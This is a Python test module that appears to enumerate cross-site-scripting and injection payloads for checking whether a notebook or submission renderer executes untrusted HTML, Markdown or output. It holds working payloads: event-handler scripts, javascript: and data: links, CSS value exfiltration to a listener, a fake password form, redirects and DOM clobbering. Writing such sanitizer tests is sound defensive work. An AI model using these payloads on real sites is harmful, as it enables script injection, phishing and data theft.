"""Everything that we could think of by which a submission might run, load or rule a page.

Each form names itself when it runs: in the console, in a flag of the window, and in a dialog. What
loads by itself asks a listener for its name.
"""

import base64
from collections.abc import Mapping

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"
    "AAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def script(name: str) -> str:
    """Runs: no quotes, no blanks, nothing that Markdown would change."""
    return f"console.log(/tripped-{name}/.source),self.tripped=1,alert(1)"


def markup(listener: str) -> Mapping[str, str]:
    """HTML by the name of its form."""
    shown = base64.b64encode(f"<script>{script('frame-data')}</script>".encode()).decode()
    drawn = f"<svg xmlns='http://www.w3.org/2000/svg' onload='{script('svg-embedded')}'/>"
    drawing = base64.b64encode(drawn.encode()).decode()
    return {
        "script": f"<script>{script('script')}</script>",
        "script-case": f"<ScRiPt >{script('script-case')}</sCrIpT>",
        "script-src": f'<script src="{listener}script-src"></script>',
        "script-module": f'<script type="module">{script("script-module")}</script>',
        "script-split": f"<scr<script></script>ipt>{script('script-split')}</script>",
        "mathjax": f'<script type="text/x-mathjax-config">{script("mathjax")}</script>',
        "img": f"<img src=x: onerror={script('img')}>",
        "img-quoted": f"<img src='x:' alt='\">' onerror='{script('img-quoted')}'>",
        "img-slashes": f"<img/src=x:/onerror={script('img-slashes')}>",
        "img-newline": f"<img\nsrc=x:\nonerror={script('img-newline')}\n>",
        "img-open": f"<img src=x: onerror={script('img-open')} ",
        "img-attribute": f'<b title="<img src=x: onerror={script("img-attribute")}>">b</b>',
        "img-comment": f"<!--><img src=x: onerror={script('img-comment')}>-->",
        "img-cdata": f"<![CDATA[><img src=x: onerror={script('img-cdata')}>]]>",
        "img-instruction": f"<?php ><img src=x: onerror={script('img-instruction')}> ?>",
        "img-remote": f'<img src="{listener}img-remote">',
        "img-srcset": f'<img srcset="{listener}img-srcset 1x">',
        "picture": f'<picture><source srcset="{listener}picture"><img src="x:"></picture>',
        "svg": f"<svg onload={script('svg')}></svg>",
        "svg-script": f"<svg><script>{script('svg-script')}</script></svg>",
        "svg-image": f'<svg><image href="{listener}svg-image"/></svg>',
        "svg-animate": f"<svg><animate onbegin={script('svg-animate')} attributeName=x dur=1s>",
        "svg-embedded": f'<embed src="data:image/svg+xml;base64,{drawing}">',
        "math": f'<math><mtext><table><mglyph><style><img src=x: onerror="{script("math")}">',
        "noscript": f'<noscript><p title="</noscript><img src=x: onerror={script("noscript")}>">',
        "template": f"<template><img src=x: onerror={script('template')}></template>",
        "body": f"<body onload={script('body')} onpageshow={script('body')}>",
        "details": f"<details open ontoggle={script('details')}>x</details>",
        "focus": f"<input autofocus onfocus={script('focus')}>",
        "hover": f"<b onmouseover={script('hover')}>hover</b>",
        "unknown": f"<x-y onmouseover={script('unknown')}>hover</x-y>",
        "marquee": f"<marquee onstart={script('marquee')}>x</marquee>",
        "video": f"<video src=x: onerror={script('video')}></video>",
        "video-remote": f'<video poster="{listener}video-remote"></video>',
        "audio": f'<audio src="{listener}audio" autoplay></audio>',
        "frame": f'<iframe src="{listener}frame"></iframe>',
        "frame-script": f'<iframe src="javascript:{script("frame-script")}"></iframe>',
        "frame-data": f'<iframe src="data:text/html;base64,{shown}"></iframe>',
        "frame-srcdoc": f"<iframe srcdoc='<script>{script('frame-srcdoc')}</script>'></iframe>",
        "object": f'<object data="{listener}object"></object>',
        "link": f'<link rel="stylesheet" href="{listener}link">',
        "link-prefetch": f'<link rel="prefetch" href="{listener}link-prefetch">',
        "style-import": f"<style>@import url({listener}style-import);</style>",
        "style-exfiltration": (
            f"<style>input[value^='8'],td{{background:url({listener}style-exfiltration)}}</style>"
        ),
        "style-attribute": f'<p style="background:url({listener}style-attribute)">p</p>',
        "style-cursor": f'<p style="list-style-image:url({listener}style-cursor)"><li>p</li></p>',
        "style-over-all": '<div style="position:fixed;inset:0;z-index:9999">over all</div>',
        "class-over-all": '<div class="navbar-fixed-top modal in">over all</div>',
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url={listener}meta-refresh">',
        "base": f'<base href="{listener}base/">',
        "form": f'<form action="{listener}form"><input name=password><button>Log in</form>',
        "anchor": f'<a href="javascript:{script("anchor")}">anchor</a>',
        "anchor-entities": f'<a href="java&#10;script&colon;{script("anchor-entities")}">a</a>',
        "anchor-data": f'<a href="data:text/html;base64,{shown}">anchor</a>',
        "anchor-relative": '<a href="..%2f..%2fsubmitted/evil.html">anchor</a>',
        "clobber": '<div id="train_step"><b id="three_calls-comment" name="base_url">id</b></div>',
        "table": f"<table background='{listener}table'><tr><td onclick={script('table')}>1</table>",
        "closing": "</div></div></div></div></div></body></html>",
    }


def markdown(listener: str) -> Mapping[str, str]:
    """Markdown by the name of its form."""
    html = {f"markdown-{name}": f"text {text}" for name, text in markup(listener).items()}
    html |= {f"block-{name}": f"<div>\n{text}\n" for name, text in markup(listener).items()}
    run = script("javascript")
    return {
        **html,
        "link": f"[a](javascript:{run})",
        "link-case": f"[a](JaVaScRiPt:{run})",
        "link-angle": f"[a](<javascript:{run}>)",
        "link-entities": f"[a](javascript&#58;{run}) [b](&#106;avascript&colon;{run})",
        "link-escaped": f"[a](javascript\\:{run})",
        "link-blank": f"[a]( \n javascript:{run})",
        "link-title": f'[a](javascript:{run} "title")',
        "link-nested": f"[![a](attachment:pixel.png)](javascript:{run})",
        "link-parentheses": f"[a]((javascript:{run}))",
        "link-data": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "link-vbscript": "[a](vbscript:msgbox)",
        "link-relative": "[a](..%2f..%2f..%2fsubmitted%2fevil.html) [b](//evil.example/x)",
        "reference": f"[a][r1] [r1] ![i][r1]\n\n[r1]: javascript:{run}",
        "reference-lines": f"[a][r 2]\n\n[r\n2]:\n  <javascript:{run}>",
        "reference-quoted": f"> [a][r3]\n>\n> [r3]: javascript:{run}",
        "reference-list": f"- [a][r4]\n\n- [r4]: javascript:{run}",
        "autolink": f"<javascript:{run}> <data:text/html,x>",
        "image": f"![a]({listener}image)",
        "image-title": f'![a]({listener}image-title "title")',
        "image-reference": f"![a][pic]\n\n[pic]: {listener}image-reference",
        "image-script": f"![a](javascript:{run})",
        "image-quotes": f'![a" onerror="{run}](x:) ![a](x:"onerror="{run})',
        "image-svg": "![a](data:image/svg+xml;base64,PHN2Zy8+)",
        "image-attachment": "![a](attachment:evil.svg) ![b](attachment:pixel.png)",
        "code-unclosed": f"`text <img src=x: onerror={script('code-unclosed')}>",
        "code-ticks": f"`` ` <img src=x: onerror={script('code-ticks')}> ``` x `",
        "code-escaped": f"\\`<img src=x: onerror={script('code-escaped')}>\\`",
        "fence-in-list": f"- a\n ```\n- <img src=x: onerror={script('fence-in-list')}>\n ```",
        "fence-html": f"<div>\n```\n<img src=x: onerror={script('fence-html')}>\n```",
        "fence-info": f'```"><img/src=x:/onerror={script("fence-info")}>\ncode\n```',
        "fence-mermaid": f"```mermaid\n<img src=x: onerror={script('fence-mermaid')}>\n```",
        "fence-tilde": f"~~~\n```\n~~~\n<img src=x: onerror={script('fence-tilde')}>\n```",
        "indented": f"text\n    <img src=x: onerror={script('indented')}>",
        "math": f"$<img src=x: onerror={script('math-inline')}>$ $$</p><script>{run}</script>$$",
        "math-environment": f"\\begin{{a}}<img src=x: onerror={script('env')}>\\end{{a}}",
        "math-link": f"$\\href{{javascript:{run}}}{{click}}$ $\\style{{position:fixed}}{{x}}$",
        "heading": f"# three_calls-comment\n\n# <img src=x: onerror={script('heading')}>",
        "table": f"|a|b|\n|-|-|\n|<img src=x: onerror={script('table')}>|[a](javascript:{run})|",
        "tasks": f"- [ ] <img src=x: onerror={script('tasks')}>\n- [x] done",
        "definition": f"word\n: <img src=x: onerror={script('definition')}>",
        "null": f"<\x00img src=x: onerror={script('null')}>",
        "form-feed": f"<img\x0csrc=x: onerror={script('form-feed')}>",
    }


def outputs(listener: str) -> str:
    """A cell that shows each form of HTML as each kind of output."""
    forms = list(markup(listener).values())
    return f"""\
from IPython.display import display
forms = {forms!r}
run = {script("output")!r}
for form in forms:
    display({{"text/html": form, "text/plain": form}}, raw=True)
    display({{"text/html": form}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
    display({{"text/markdown": form}}, raw=True)
    display({{"text/latex": form}}, raw=True)
    display({{"image/svg+xml": form}}, raw=True)
    print(form)
for media in ("application/javascript", "text/javascript", "text/vnd.mermaid", "application/pdf",
              "application/json", "application/vnd.jupyter.widget-view+json", "text/x-new",
              "application/vnd.jupyter.widget-state+json"):
    display({{media: run if "javascript" in media else forms[0]}}, raw=True)
display({{"image/png": f'" onerror="{{run}}', "image/jpeg": f"x' onerror='{{run}}"}}, raw=True)
display({{"image/png": {PIXEL!r}}}, raw=True,
        metadata={{"image/png": {{"width": f'1 onerror={{run}}', "alt": f'"onerror="{{run}}'}}}})
print("\\x1b[31mred\\x1b[0m \\x1b]8;;javascript:" + run + "\\x07link\\x1b]8;;\\x07")
print("\\x9b2J \\u202eesrever")
print("over\\rwritten")
"""


def error(listener: str) -> str:
    """A cell that fails with a name and a text of HTML."""
    form = markup(listener)["img"]
    return f"""\
class Evil(Exception):
    def _render_traceback_(self):
        return ["\\x1b]0;title\\x07" + {form!r}]
Evil.__name__ = {form!r}
raise Evil({form!r})
"""


ANSWER = """\
A list `List[int]` and List[int], tags `<b>` and `</b>`, and a < b > c; **bold** and
<b>bold too</b>.
Mathematics: $a<b$ and $x_1$. See [the manual](https://docs.python.org/3/?a=1&b=2).

```python
def first(values: list[int]) -> int:
    return layers[0](values) if 1 < 2 else "<none>"
```

| name | value |
|------|-------|
| one  | 1     |

![a dot](attachment:pixel.png)
"""
TABLE = """\
from IPython.display import HTML, display
import matplotlib.pyplot as plt
display(HTML('<table border="1" class="dataframe"><thead><tr><th></th><th>loss</th></tr></thead>'
             '<tbody><tr><th>0</th><td style="color: red">0.25</td></tr></tbody></table>'))
figure, axes = plt.subplots(figsize=(2, 1))
axes.plot([1, 2])
plt.show()
"""
